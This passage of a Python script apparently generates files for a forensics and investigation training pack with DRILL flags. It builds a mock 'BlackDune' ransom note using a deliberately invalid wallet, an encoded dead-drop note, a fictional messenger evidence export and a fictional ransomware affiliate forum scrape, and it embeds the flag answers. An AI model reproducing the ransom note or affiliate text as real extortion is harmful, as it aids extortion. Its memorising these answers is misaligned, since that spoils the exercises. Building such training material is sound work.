    resp = (b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/plain\r\nContent-Length: "
            + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)
    ts = tcp_session(ts, "198.51.100.172", 50113, 0x51c1a001, 0x0b3e5a77, req, resp) + 1.7

    # benign: time sync name lookup
    p.udp(ts, ws, 53003, dns, 53, dns_query(0x0142, "time.windows-sync.example"), ttl=128); ts += 0.0113
    p.udp(ts, dns, 53, ws, 53003, dns_response(0x0142, "time.windows-sync.example", [(None, 1, 900, "192.0.2.123")]))
    return p.bytes()


# --------------------------------------------------------------------------
# Crypto/Encoding: ransom note and wallet
# --------------------------------------------------------------------------
BECH32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def _bech32_polymod(values):
    gen = [0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = (chk & 0x1FFFFFF) << 5 ^ v
        for i in range(5):
            chk ^= gen[i] if ((b >> i) & 1) else 0
    return chk


def _bech32_valid(addr: str) -> bool:
    hrp, data = addr[:2], addr[3:]
    vals = [ord(x) >> 5 for x in hrp] + [0] + [ord(x) & 31 for x in hrp] + [BECH32.index(c) for c in data]
    return _bech32_polymod(vals) in (1, 0x2BC830A3)


def wallet() -> str:
    """A bitcoin-LIKE address.  Its bech32 checksum is deliberately invalid,
    so it can never be a real wallet."""
    rng = Rng("wallet")
    while True:
        w = "bc1q" + "".join(rng.choice(BECH32) for _ in range(38))
        if not _bech32_valid(w):
            return w


def build_ransom_note() -> bytes:
    secret = b"victim=NWA-FS02;files=18342;key_id=7f3a9c0e;DRILL{p4y_n0th1ng_d3c0d3_3v3ryth1ng}"
    layer = base64.b64encode(secret.hex().encode()).decode()
    block = "\n".join(layer[i:i + 64] for i in range(0, len(layer), 64))
    note = f"""==================================================================
   !!!  ALL YOUR FILES ARE ENCRYPTED BY  B L A C K D U N E  !!!
==================================================================

What happened?
  Your documents, databases, backups and photos on this server were
  encrypted. Without our private key nobody can restore them.

How to get your files back?
  1. Buy 0.75 BTC.
  2. Send it to this wallet:

        {wallet()}

  3. Send your PERSONAL ID (below) to our support chat on Sparrow
     messenger: @dune_support_desk
  4. You receive the decryptor within 24 hours.

  You have 72 hours. After that the price doubles.
  Do NOT rename files. Do NOT use recovery tools. Do NOT call police.

-----BEGIN PERSONAL ID-----
{block}
-----END PERSONAL ID-----

  BlackDune - we keep our word.
"""
    return note.encode()


def build_dead_drop() -> bytes:
    plain = "meet at pier seven, 04:00. bring the drive. confirmation: DRILL{r0t_and_b4se32_are_n0t_crypt0}"
    layer = base64.b32encode(codecs.encode(plain, "rot13").encode()).decode()
    body = "\n".join(layer[i:i + 56] for i in range(0, len(layer), 56))
    note = f"""k.

same place as last time, usual twist on top.
burn this after reading.

{body}

- m
"""
    return note.encode()


# --------------------------------------------------------------------------
# OSINT: messenger export (Leaflet Trace)
# --------------------------------------------------------------------------
def build_messenger_export() -> bytes:
    leaflet3 = {"file_name": "leaflet_v3.pdf", "mime_type": "application/pdf", "size": 284113,
                "sha256": fake_sha256("leaflet_v3.pdf")}
    leaflet2 = {"file_name": "leaflet_v2.pdf", "mime_type": "application/pdf", "size": 279904,
                "sha256": fake_sha256("leaflet_v2.pdf")}
    users = [
        {"id": 5512034, "username": "lena_p_garden", "display_name": "Lena P."},
        {"id": 5583310, "username": "riverside_admin", "display_name": "Riverside admin"},
        {"id": 6120447, "username": "night_tanner", "display_name": "Tanner"},
        {"id": 6120474, "username": "tanner_official", "display_name": "Tanner"},
        {"id": 7730155, "username": "sand_marten", "display_name": "Marten"},
        {"id": 7730551, "username": "marten_sand", "display_name": "Marten K."},
        {"id": 8004412, "username": "quiet_reed", "display_name": "Reed"},
        {"id": 8101990, "username": "dune_echo_bot", "display_name": "Dune Echo"},
        {"id": 9230018, "username": "olive_courier", "display_name": "Courier"},
    ]
    chats = [
        {"id": -100881, "title": "Riverside Neighbours", "type": "group", "messages": [
            {"id": 878, "date": "2025-10-09T17:40:02Z", "from_id": 5583310, "text": "Reminder: water outage in district 4 tomorrow 10:00-14:00."},
            {"id": 879, "date": "2025-10-09T17:52:40Z", "from_id": 9230018, "text": "thanks! any news about the bus route?"},
            {"id": 880, "date": "2025-10-09T17:55:13Z", "from_id": 5583310, "text": "Route 12 is back to normal."},
            {"id": 881, "date": "2025-10-09T18:02:11Z", "from_id": 5512034, "text": "someone sent me this, is this real??",
             "forward_origin": {"type": "channel", "chat_id": -100422, "message_id": 412, "date": "2025-10-08T22:40:55Z"},
             "attachment": leaflet3},
            {"id": 882, "date": "2025-10-09T18:05:37Z", "from_id": 5583310, "text": "Please do not share this. Reported to the moderators and the police hotline."},
            {"id": 883, "date": "2025-10-09T18:06:02Z", "from_id": 5512034, "text": "sorry, deleted on my side"},
        ]},
        {"id": -100422, "title": "Dune Echo", "type": "channel", "messages": [
            {"id": 409, "date": "2025-10-07T20:11:00Z", "from_id": 8101990, "text": "New week. Stay tuned."},
            {"id": 410, "date": "2025-10-08T09:30:12Z", "from_id": 8101990, "text": "Old version below, do not spread it any more.",
             "forward_origin": {"type": "chat", "chat_id": -100057, "message_id": 49, "date": "2025-10-05T19:02:44Z"},
             "attachment": leaflet2},
            {"id": 412, "date": "2025-10-08T22:40:55Z", "from_id": 8101990, "text": "Read it. Share it.",
             "forward_origin": {"type": "chat", "chat_id": -100057, "message_id": 57, "date": "2025-10-08T21:17:30Z"},
             "attachment": leaflet3},
            {"id": 413, "date": "2025-10-09T08:00:03Z", "from_id": 8101990, "text": "Translations are coming."},
        ]},
        {"id": -100057, "title": "Oasis Relay", "type": "private_group", "messages": [
            {"id": 49, "date": "2025-10-05T19:02:44Z", "from_id": 8004412, "text": "v2 attached, comments welcome", "attachment": leaflet2},
            {"id": 50, "date": "2025-10-05T19:20:10Z", "from_id": 7730551, "text": "too long. cut page 2"},
            {"id": 53, "date": "2025-10-07T11:45:31Z", "from_id": 6120474, "text": "who is doing the translation?"},
            {"id": 57, "date": "2025-10-08T21:17:30Z", "from_id": 7730155, "text": "final version from our friend, approved",
             "forward_origin": {"type": "user", "user_id": 6120447, "date": "2025-10-08T20:58:09Z"},
             "attachment": leaflet3},
            {"id": 58, "date": "2025-10-08T21:19:02Z", "from_id": 8004412, "text": "good. pushing to Echo tonight"},
            {"id": 61, "date": "2025-10-09T23:12:45Z", "from_id": 7730551, "text": "reposting for the new members", "attachment": leaflet3},
        ]},
    ]
    export = {
        "export_tool": "Sparrow Desktop 4.2 - evidence export",
        "device": "seized laptop LT-04 (user t.vell)",
        "exported_at": "2025-10-15T09:12:44Z",
        "note": "forward_origin describes where a forwarded message originally came from",
        "users": users,
        "chats": chats,
    }
    return (json.dumps(export, indent=2, ensure_ascii=False) + "\n").encode()


# --------------------------------------------------------------------------
# OSINT: forum scrape (Wallet Pivot)
# --------------------------------------------------------------------------
def build_forum_scrape() -> bytes:
    w = wallet()
    grouped = " ".join(w[i:i + 4] for i in range(0, len(w), 4))
    # a look-alike: same start and end, the middle differs
    decoy = w[:16] + "".join(reversed(w[16:30])) + w[30:]
    orng = Rng("other-wallet")
    other = "bc1q" + "".join(orng.choice(BECH32) for _ in range(38))
    text = f"""Scrape of forum "dunebazaar" (fictional), thread #4471
Title: [AFFILIATE] Locker builds - 70/30 split
Scraped: 2025-10-15 06:10 UTC by the joint task force
------------------------------------------------------------------

[post 1] mirage_ops  (member since 2024-02, 311 posts)  2025-09-28 21:04
  Recruiting experienced network people. Builds for Windows and ESXi.
  70% to you, 30% to us. Payouts only through the forum escrow.
  Contact me in PM, no public wallets in this thread please.

[post 2] tallow  (member since 2025-08, 12 posts)  2025-09-29 08:15
  how do victims pay, your wallet or ours?

[post 3] mirage_ops  2025-09-29 09:02
  Each affiliate uses his own wallet in the note. Read the FAQ.

[post 4] quietfalcon  (member since 2023-11, 958 posts)  2025-10-03 17:44
  Selling access to a water utility in the north, RDP + domain admin.
  Test payment welcome to {decoy}

[post 5] nomad_k  (member since 2025-01, 40 posts)  2025-10-04 12:31
  Vouching for quietfalcon. Paid me back last time: {other}

[post 6] ashen_lynx  (member since 2025-06, 27 posts)  2025-10-12 23:58
  Joined the program. First target this week, utility sector.
  Proof of funds / my payout address, copy carefully:
    {grouped}

[post 7] tallow  2025-10-13 10:20
  > ashen_lynx wrote:
  > Proof of funds / my payout address, copy carefully:
  >   {grouped}
  nice, good luck. what build are you using?

[post 8] ashen_lynx  2025-10-13 11:02
  the new one from mirage. note is in english only, will ask for more languages.
"""
    for addr in (w, decoy, other):  # none of them may be a real address
        assert not _bech32_valid(addr), addr
    return text.encode()


# --------------------------------------------------------------------------
def build_all() -> None:
    log = build_access_log()
    emit("log-analysis/web-intrusion/files/access.log", log)
    emit("log-analysis/webshell-location/files/access.log", log)
    emit("log-analysis/rdp-brute-force/files/security_events.csv", build_security_csv())
    emit("forensics/seized-laptop-disguised-archive/files/triage_listing.csv", build_triage_listing())
    emit("forensics/seized-laptop-shell-history/files/bash_history.txt", build_bash_history())
    emit("forensics/spoofed-coordination-email/files/urgent_schedule_update.eml", build_eml())
    emit("network/dns-whispers/files/dns_capture.pcap", build_dns_pcap())
    emit("network/beacon-home/files/workstation44.pcap", build_beacon_pcap())
    emit("crypto-encoding/ransom-note/files/README_RESTORE_FILES.txt", build_ransom_note())
    emit("crypto-encoding/dead-drop-note/files/recovered_note.txt", build_dead_drop())
    emit("osint/leaflet-trace/files/sparrow_export.json", build_messenger_export())
    emit("osint/wallet-pivot/files/forum_scrape.txt", build_forum_scrape())


def main() -> int:
    check = "--check" in sys.argv[1:]
    build_all()
    bad = 0
    for path, data in sorted(OUTPUT.items()):
        rel = path.relative_to(PACK)
        if check:
            if not path.exists() or path.read_bytes() != data:
                print(f"DIFFERS: {rel}")
                bad += 1
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            print(f"wrote {rel} ({len(data)} bytes)")
    if check:
        print("all artefacts reproduce byte for byte" if not bad else f"{bad} file(s) differ")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
